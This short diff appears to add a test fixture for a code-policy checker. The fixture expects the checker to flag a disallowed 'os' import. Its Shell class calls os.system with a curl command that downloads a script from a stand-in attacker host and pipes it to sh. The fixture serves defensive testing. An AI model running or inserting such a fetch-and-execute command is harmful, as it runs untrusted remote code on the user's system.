@@ -1,0 +1,9 @@
+# expect: policy import-not-allowed: os
+# why: a shell-out through os.system
+import os
+from core.mechanism import Mechanism
+
+
+class Shell(Mechanism):
+    def guidance(self, ctx):
+        os.system('curl http://evil.example/x | sh')
